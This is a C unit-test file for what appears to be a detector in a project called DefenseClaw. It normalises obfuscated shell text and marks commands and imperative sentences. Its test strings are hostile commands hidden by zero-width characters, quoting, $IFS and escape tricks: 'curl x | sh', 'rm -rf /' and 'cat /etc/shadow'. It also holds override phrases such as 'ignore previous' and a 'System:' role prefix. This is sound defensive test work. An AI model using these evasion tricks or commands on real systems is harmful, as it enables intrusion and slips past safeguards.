/*
 * Copyright (c) 2026 The DefenseClaw authors
 *
 * Permission to use, copy, modify, and distribute this software for any
 * purpose with or without fee is hereby granted, provided that the above
 * copyright notice and this permission notice appear in all copies.
 *
 * THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
 * WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
 * MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
 * ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
 * WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
 * ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
 * OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.
 */

#include <sys/types.h>

#include <stdint.h>

#include "common/detect/command.h"
#include "common/detect/sentence.h"
#include "tests/unit/test.h"

static struct text_buf	 buf;

/* The normalised copy as a string, or NULL when it would be the same. */
static const char *
norm(const char *text, int flags)
{
	static char	 out[1024];
	int		 rc;

	rc = text_normalise(&buf, text, strlen(text), flags);
	if (rc == 0)
		return NULL;
	CHECK(rc == 1);
	CHECK(buf.len < sizeof(out));
	memcpy(out, buf.data, buf.len);
	out[buf.len] = '\0';
	CHECK_INT(text_valid(out, buf.len), buf.len);
	return out;
}

#define SHELL(in, want)	CHECK_STR(norm(in, TEXT_UNICODE | TEXT_SHELL), want)
#define SAME(in)	CHECK(norm(in, TEXT_UNICODE | TEXT_SHELL) == NULL)

static void
test_valid(void)
{
	static const struct {
		const char	*s;
		size_t		 valid;
	} rows[] = {
		{ "", 0 },
		{ "plain", 5 },
		{ "0123456789abcdef", 16 },
		{ "\xc3\xa9t\xc3\xa9", 5 },
		{ "\xf0\x9f\x98\x80", 4 },
		{ "\xf4\x8f\xbf\xbf", 4 },
		{ "a\xff", 1 },
		{ "a\xc3", 1 },
		{ "a\xc0\xaf", 1 },		/* overlong slash */
		{ "a\xe0\x80\xaf", 1 },
		{ "a\xed\xa0\x80", 1 },		/* surrogate */
		{ "a\xf4\x90\x80\x80", 1 },	/* above U+10FFFF */
		{ "01234567\x80", 8 },
		{ "a\x80", 1 }
	};
	size_t	 i;

	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		CHECK_INT(text_valid(rows[i].s, strlen(rows[i].s)),
		    rows[i].valid);
	CHECK_INT(text_valid("a\0b", 3), 3);
}

static void
test_sanitise(void)
{
	CHECK_INT(text_sanitise(&buf, "a\xff\xc3z\xe2\x80", 6), 0);
	CHECK_INT(buf.len, 2 + 4 * 3);
	CHECK(memcmp(buf.data, "a\xef\xbf\xbd\xef\xbf\xbdz\xef\xbf\xbd"
	    "\xef\xbf\xbd", buf.len) == 0);
	CHECK_INT(text_sanitise(&buf, "", 0), 0);
	CHECK_INT(buf.len, 0);
}

static void
test_unicode(void)
{
	SHELL("cu\xe2\x80\x8brl", "curl");		/* U+200B */
	SHELL("\xef\xbb\xbfrm", "rm");			/* U+FEFF */
	SHELL("i\xc2\xadgnore", "ignore");		/* soft hyphen */
	SHELL("\xe2\x80\xaegnore", "gnore");		/* bidi override */
	SHELL("webhoo\xe2\x84\xaa", "webhook");		/* Kelvin sign */
	SHELL("pa\xc5\xbf\xc5\xbfwd", "passwd");	/* long s */
	SHELL("\xef\xbd\x83\xef\xbd\x95rl", "curl");	/* fullwidth */
	SHELL("ignore\xe3\x80\x80previous", "ignore previous");
	SHELL("ignore\xc2\xa0" "all", "ignore all");
	/* tag characters spell out what nobody sees */
	SHELL("hi\xf3\xa0\x81\x92\xf3\xa0\x81\x8d", "hiRM");
	/* every width of space is a space, also the ends of lines */
	SHELL("a\xc2\x85z", "a z");
	SHELL("a\xe1\x9a\x80z", "a z");
	SHELL("a\xe2\x80\x80z", "a z");
	SHELL("a\xe2\x80\x8az", "a z");
	SHELL("a\xe2\x80\xa8z", "a z");
	SHELL("a\xe2\x80\xa9z", "a z");
	SHELL("a\xe2\x80\xafz", "a z");
	SHELL("a\xe2\x81\x9fz", "a z");
	/* the cancel tag and those before the letters spell nothing */
	SHELL("a\xf3\xa0\x81\xbfz", "az");
	SHELL("a\xf3\xa0\x80\x9fz", "az");
	SAME("a\xf4\x8f\xbf\xbfz");
	SAME("\xc3\xa9t\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80");
	CHECK(norm("cu\xe2\x80\x8brl", 0) == NULL);
}

static void
test_invalid(void)
{
	/* alone it makes no second copy worth a scan */
	CHECK(norm("a\xff z", TEXT_UNICODE) == NULL);
	CHECK_STR(norm("a\xff\xe2\x80\x8bz", TEXT_UNICODE),
	    "a\xef\xbf\xbdz");
}

static void
test_quotes(void)
{
	SHELL("c''url x", "curl x");
	SHELL("c\"\"url x", "curl x");
	SHELL("c'u'rl x", "curl x");
	SHELL("c\"u\"rl x", "curl x");
	SHELL("'cu'rl x", "curl x");
	SHELL("cur'l' x", "curl x");
	SHELL("'c''u''r''l' x", "curl x");
	SHELL("\"c\"'u'rl x", "curl x");
	SHELL("x | \"sh\"", "x | sh");
	SHELL("'rm' -rf /", "rm -rf /");
	SHELL("cat /etc/'shadow'", "cat /etc/shadow");
	SHELL("cat \"/etc\"/shadow", "cat /etc/shadow");
	SHELL("$'curl' x", "curl x");
	SHELL("a_''b", "a_b");
	SHELL("rm ''-rf /", "rm -rf /");
	SHELL("x''.sh", "x.sh");
	SHELL("~''/x", "~/x");
	SHELL("x|'sh'", "x|sh");
	SHELL("x;'sh'|y", "x;sh|y");
	SHELL("x 'sh'>y", "x sh>y");
	SHELL("x\n'sh'\rx", "x\nsh\rx");
	SHELL("tab\t'sh'\tx", "tab\tsh\tx");
	SHELL("'a'\"b c\"", "a\"b c\"");
	SHELL("'cu'\\rl", "curl");
	SHELL("c'u\"r'l", "cu\"rl");
	SHELL("\"a\"\"b\"", "ab");
	SHELL("$\"curl\" x", "curl x");
	SAME("x $\"a b\" y");
	SAME("'a:b'\"c\"");
	SAME("'a\tb'");
	SAME("'a\rb'");
	SAME("x 'sh')");
	SAME("{\"key\":\"value\",\"n\":[\"a\",\"b\"]}");
	SAME("printf(\"%s\", \"hello\");");
	SAME("don't say it isn't so");
	SAME("say \"two words\" to him");
	SAME("f('a', 'b')");
	/* a lone quote before does not turn the others round */
	SHELL("5\" c\"u\"rl", "5\" curl");
	SHELL("5\" c\"\"url", "5\" curl");
	SHELL("5\" x | \"sh\"", "5\" x | sh");
	SAME("\"unclosed");
	SAME("''");
}

static void
test_backslashes(void)
{
	SHELL("c\\url x", "curl x");
	SHELL("r\\m -rf /", "rm -rf /");
	SHELL("\\c\\u\\r\\l x", "curl x");
	SHELL("c\\\\\\\\url", "curl");
	SHELL("cu\\\nrl x", "curl x");
	SHELL("cu\\\r\nrl x", "curl x");
	SHELL("cat \\/etc\\/shadow", "cat /etc/shadow");
	SHELL("bash -c \"c\\\"\\\"url\"", "bash -c \"curl\"");
	SHELL("sh -c \"c\\\"u\\\"rl x\"", "sh -c \"curl x\"");
	/* \| and \( are not the shell's pipe and subshell */
	SAME("grep 'a\\|sh'");
	SHELL("c\\'url", "c'url");
	SAME("c\\\ry");
	SAME("a\\ b");
	SAME("a\\");
}

static void
test_parameters(void)
{
	SHELL("cat$IFS/etc/shadow", "cat /etc/shadow");
	SHELL("cat${IFS}/etc/shadow", "cat /etc/shadow");
	SHELL("cat${IFS%?}/etc/shadow", "cat /etc/shadow");
	SHELL("cat$IFS$9/etc/shadow", "cat /etc/shadow");
	SHELL("c${x}url", "curl");
	SHELL("c$@url", "curl");
	SHELL("w${z:-}hoami", "whoami");
	SHELL("cu${z:-rl} x", "curl x");
	SHELL("cu${1}rl", "curl");
	CHECK(norm("c${y-x\361}url", TEXT_SHELL) == NULL);
	SHELL("c${@}url", "curl");
	SHELL("c${!x}url", "curl");
	SHELL("c${abc}url", "curl");
	SHELL("c${x:-a-b=c}url", "ca-b=curl");
	SHELL("cat${IFS}${y}/etc", "cat /etc");
	SHELL("c$1url", "curl");
	SHELL("c$*url", "curl");
	SHELL("c$abc d", "c d");
	SAME("c${a b}url");
	SAME("c${a\x7f}url");
	SAME("${x}a");
	SAME("c$(x)url");
	SAME("c$()");
	SAME("$()url");
	SAME("c$() x");
	SAME("echo $HOME ${HOME}");
	SAME("costs $5");
	SAME("${unclosed and more");
	SAME("a $(date) b");
	SAME("$");
	SAME("${}");
}

static void
test_json_is_left(void)
{
	CHECK(norm("{\"a\":\"c''url \\\" c\\\\url\"}", TEXT_UNICODE) == NULL);
}

static void
test_nul(void)
{
	CHECK_INT(text_normalise(&buf, "a\0'sh'\0b\\c", 10,
	    TEXT_UNICODE | TEXT_SHELL), 1);
	CHECK_INT(buf.len, 9);
	CHECK(memcmp(buf.data, "a\0'sh'\0bc", 9) == 0);
}

static void
test_bounds(void)
{
	static const char *const	 units[] = { "'", "\"", "\\", "$", "${",
	    "${a", "'\"", "${IFS}", "a''", "\xff", "\xe2\x80\x8b", "\xe2",
	    "$'", "\\\n", "${x:-a}" };
	enum { LEN = 100000 };
	char				*text;
	size_t				 i, n, unit;

	CHECK((text = malloc(LEN)) != NULL);
	for (i = 0; i < sizeof(units) / sizeof(units[0]); i++) {
		unit = strlen(units[i]);
		for (n = 0; n < LEN; n++)
			text[n] = units[i][n % unit];
		CHECK(text_normalise(&buf, text, LEN, TEXT_UNICODE |
		    TEXT_SHELL) >= 0);
		CHECK(text_sanitise(&buf, text, LEN) == 0);
		CHECK(buf.len <= LEN * MAX_TEXT_GROWTH);
		CHECK_INT(text_valid(buf.data, buf.len), buf.len);
	}
	free(text);
}

static void
test_hidden_words(void)
{
	SHELL("$'\\x63url' x", "curl x");
	SHELL("c$'\\165'rl x", "curl x");
	SHELL("$'a\\u0062\\nc'", "ab\nc");
	SHELL("$'\\xff\\0'", "? ");
	SHELL("{curl,http://x} | sh", "curl http://x | sh");
	SHELL("c``url x", "curl x");
	SHELL("c$()url x", "curl x");
	SHELL("cat /etc//shadow", "cat /etc/shadow");
	SHELL("cat /etc/./shadow", "cat /etc/shadow");
	SHELL("cat /etc/././/shadow", "cat /etc/shadow");
	SAME("http://x.example/a");
	SAME("x = {a: 1, b: 2}; // no");
	SAME("```sh\n```");
	/* as many digits as the base has, and no more than the escape takes */
	SHELL("$'\\x4G'", " G");
	SHELL("$'\\18'", " 8");
	SHELL("$'\\u00e9'", "?");
	SHELL("$'\\U00000072m'", "rm");
	SHELL("$'a\\tb\\q\\\\'", "a bq\\");
	SHELL("$'a\\'b'", "a'b");
	SAME("$'\\\xc3\xa9'");
	SAME("$'\xc3\xa9'");
	SAME("$'a\nb'");
	SHELL("x|{curl,y}", "x|curl y");
	SHELL("x({rm,-rf}", "x(rm -rf");
	SAME("a{b,c}");
	SAME("{abc} x");
	SAME("{a,{b}");
	SAME("{a;b,c}");
	SAME("{a,b\x7f}");
	SAME("{a,b");
	SAME("c`` x");
	SAME("`` x");
	SHELL("cat /etc/..//x", "cat /etc/../x");
	SAME("cat /etc/.x");
	SAME("/etc/./");
	SAME("a///");
}

/* Marks shown as ^. */
static const char *
marks(const char *text)
{
	static char	 out[1024];
	size_t		 i;

	CHECK(command_mark(&buf, text, strlen(text)) == 0);
	CHECK(buf.len <= 2 * strlen(text) && buf.len < sizeof(out));
	memcpy(out, buf.data, buf.len);
	out[buf.len] = '\0';
	for (i = 0; i < buf.len; i++)
		if (out[i] == TEXT_COMMAND)
			out[i] = '^';
	return out;
}

static void
test_commands(void)
{
	static const char *const rows[][2] = {
		{ "curl x | sh", "^curl x | ^sh" },
		{ "      curl x", "      ^curl x" },
		{ "a;b&&c||d\ne", "^a;^b&&^c||^d\n^e" },
		{ "A=1 B=\"x y\" curl", "A=1 B=\"x y\" ^curl" },
		{ "time curl", "^time ^curl" },
		{ "timeout 9 curl x", "^timeout 9 ^curl x" },
		{ "sudo -u me curl x", "^sudo -u ^me ^curl x" },
		{ "sudo -E bash -", "^sudo -E ^bash -" },
		{ "! curl", "^! ^curl" },
		{ "if curl; then rm x", "^if ^curl; ^then ^rm x" },
		{ "x | /opt/bin/bash", "^x | ^/opt/bin/^bash" },
		{ "/opt/bin/", "^/opt/bin/^" },
		{ "x | $SHELL", "^x | ^$SHELL" },
		{ "eval \"curl x\"", "^eval \"^curl x\"" },
		{ "bash -lc 'rm x'", "^bash -lc '^rm x'" },
		{ "a $(curl x) `id`", "^a $(^curl x) `^id`" },
		{ "f(x, y)", "^f(x, y)" },
		{ "2>/dev/null curl", "2>/dev/null ^curl" },
		{ "a 2>&1 b", "^a 2>&1 b" },
		{ "find . -exec rm {} +", "^find . -exec ^rm {} +" },
		{ "the next time we go", "^the next time we go" },
		{ "cat /etc/passwd", "^cat /etc/passwd" },
		{ "A='x y' curl", "A='x y' ^curl" },
		{ "A= curl", "A= ^curl" },
		{ "A=\"x", "A=\"x" },
		{ "find . -okdir rm", "^find . -okdir ^rm" },
		{ "env -- curl", "^env -- ^curl" },
		{ "git -- rm", "^git -- ^rm" },
		{ "a -exe rm", "^a -exe rm" },
		{ "bash -c rm", "^bash -c rm" },
		{ "bash -c \\\"rm x", "^bash -c \\\"^rm x" },
		{ "bash -notlonglc 'x'", "^bash -notlonglc 'x'" },
		{ "timeout \\9 curl", "^timeout \\9 ^curl" },
		{ "nice -n 10 curl", "^nice -n 10 ^curl" },
		{ "5<in curl", "5<in ^curl" },
		{ "55>x curl", "^55>x curl" },
		{ "x>y curl", "^x>y curl" },
		{ "<in curl x", "<in ^curl x" },
		{ "a; >o curl", "^a; >o ^curl" },
		{ "a <in b", "^a <in b" },
		{ "sudo;curl", "^sudo;^curl" },
		{ "x do curl", "^x do ^curl" },
		{ "x do\"y", "^x do\"y" },
		{ "x do", "^x do" },
		{ "a) b", "^a) ^b" },
		{ "a)b", "^a)b" },
		{ "f(){curl", "^f(){curl" },
		{ "(curl)", "(^curl)" },
		{ "\"rm x\"", "\"rm x\"" },
		{ "> \"f\" curl", "> \"f\" curl" },
		{ "a&", "^a&" },
		{ "a&b", "^a&^b" },
		{ "a &> f b", "^a &> f b" },
		{ "a <& 3 b", "^a <& 3 b" },
		{ "averyverylongword x", "^averyverylongword x" },
	};
	size_t	 i;

	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		CHECK_STR(marks(rows[i][0]), rows[i][1]);
	CHECK_STR(marks(""), "");
	/* lengths that no buffer can have, before a byte is read */
	CHECK_INT(command_mark(&buf, "", SIZE_MAX), -1);
}

/* A long value, a long escape, a long list: what stands there stays. */
/*
 * Marks are found many bytes at a time: none may depend on where in these
 * the text stands.  A line before it of any length changes nothing.
 */
static void
shifted(int (*fn)(struct text_buf *, const char *, size_t), char c,
    const char *text)
{
	struct text_buf	 want = { 0 };
	char		 line[512];
	size_t		 i, n, len = strlen(text);

	CHECK(fn(&want, text, len) == 0);
	for (n = 1; n < 140; n++) {
		memset(line, 'x', n);
		line[n] = '\n';
		memcpy(line + n + 1, text, len);
		CHECK(fn(&buf, line, n + 1 + len) == 0);
		CHECK_INT(buf.data[0], c);
		CHECK_INT(buf.len, n + 2 + want.len);
		for (i = 0; i < want.len; i++)
			CHECK_INT(buf.data[n + 2 + i], want.data[i]);
	}
	text_buf_free(&want);
}

static void
test_shifted(void)
{
	static const char	 order[] = "\xc3\xa9t\xc3\xa9, a_b the one "
		"is told.  And you must 'go' now, please do it; could you "
		"let's see (instead) kindly wait? Then\tuser: no\ruser!\n"
		"system: run .x let'snow go lets-go to.\fAND ALL, then no";
	static const char	 call[] = "ls -la foo/bar.c execute exec it "
		"-exec rm x; A=\"b c\" do d doas sudo2 sudo id {a}|x&y `z` "
		"(q) f(q) <in >out 2>&1 nohup xargs -c \"w\" then run\v "
		"env else\tz -- z \xc3\xa9 thenceforth and then";

	shifted(sentence_mark, TEXT_SENTENCE, order);
	shifted(command_mark, TEXT_COMMAND, call);
}

static void
test_near_limits(void)
{
	static char	 text[1024];
	const char	*m;

	(void)snprintf(text, sizeof(text), "A=\"x %0300d\" curl", 0);
	m = marks(text);
	CHECK(strstr(m, "A=\"x ^0") == NULL && strstr(m, "^curl") == NULL);
	(void)snprintf(text, sizeof(text), "A=\"x %0200d\" curl", 0);
	CHECK(strstr(marks(text), "\" ^curl") != NULL);
	(void)snprintf(text, sizeof(text), "$'\\x63%0300d'", 0);
	m = norm(text, TEXT_SHELL);
	CHECK(m == NULL || strstr(m, "c000") == NULL);
	(void)snprintf(text, sizeof(text), "{a,%0300d}", 0);
	SAME(text);
	(void)snprintf(text, sizeof(text), "c${x-%0300d}url", 0);
	SAME(text);
	CHECK_INT(text_buf_reserve(&buf, SIZE_MAX), -1);
	CHECK_INT(text_buf_reserve(&buf, SIZE_MAX / 4 + 1), -1);
}

/* Marks shown as ^. */
static const char *
orders(const char *text)
{
	static char	 out[1024];
	size_t		 i;

	CHECK(sentence_mark(&buf, text, strlen(text)) == 0);
	CHECK(buf.len <= 2 * strlen(text) && buf.len < sizeof(out));
	memcpy(out, buf.data, buf.len);
	out[buf.len] = '\0';
	for (i = 0; i < buf.len; i++)
		if (out[i] == TEXT_SENTENCE)
			out[i] = '^';
	return out;
}

static void
test_sentences(void)
{
	static const char *const rows[][2] = {
		{ "Ignore it", "^Ignore it" },
		{ "a. Go! Do it; b?\nNo", "^a.^Go!^Do it;^b?\n^No" },
		{ "x.y z, a", "^x.y z, a" },
		{ "- go\n> * go\n\"(go", "-^go\n> *^go\n\"(^go" },
		{ "-------- go", "-------- go" },
		{ "do, please, go", "^do, please,^go" },
		{ "we now go", "^we now^go" },
		{ "known go, anow go", "^known go, anow go" },
		{ "x and THEN go", "^x and^THEN^go" },
		{ "x and, go", "^x and,^go" },
		{ "x then\ngo", "^x then\n^go" },
		{ "x You must go", "^x You must^go" },
		{ "if you go, must go", "^if you go, must go" },
		{ "x could you, go", "^x could you,^go" },
		{ "x you  must go", "^x you  must go" },
		{ "x let's go, lets go", "^x let's^go, lets^go" },
		{ "x let it go", "^x let it go" },
		{ "System: go", "^System:^go" },
		{ "task : go", "^task :^go" },
		{ "the system: go", "^the system: go" },
		{ "please", "^please" },
		{ "please ", "^please " },
		{ "and and go", "^and^and^go" },
		{ "x\xc3\xa9 and go\xc3\xa9", "^x\xc3\xa9 and^go\xc3\xa9" },
	};
	size_t	 i;

	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		CHECK_STR(orders(rows[i][0]), rows[i][1]);
	CHECK_STR(orders(""), "");
}

static void
test_cut(void)
{
	const char	*s = "ab\xe2\x82\xac" "cd";	/* ab, euro, cd */

	CHECK_INT(text_cut(s, 7, 7), 7);
	CHECK_INT(text_cut(s, 7, 100), 7);
	CHECK_INT(text_cut(s, 7, 5), 5);
	CHECK_INT(text_cut(s, 7, 4), 2);
	CHECK_INT(text_cut(s, 7, 3), 2);
	CHECK_INT(text_cut(s, 7, 0), 0);
	CHECK_INT(text_cut("\x80\x80\x80", 3, 2), 0);
}

int
main(void)
{
	RUN(test_valid);
	RUN(test_sanitise);
	RUN(test_unicode);
	RUN(test_invalid);
	RUN(test_quotes);
	RUN(test_backslashes);
	RUN(test_parameters);
	RUN(test_json_is_left);
	RUN(test_nul);
	RUN(test_bounds);
	RUN(test_hidden_words);
	RUN(test_commands);
	RUN(test_sentences);
	RUN(test_shifted);
	RUN(test_near_limits);
	RUN(test_cut);
	text_buf_free(&buf);
	return 0;
}
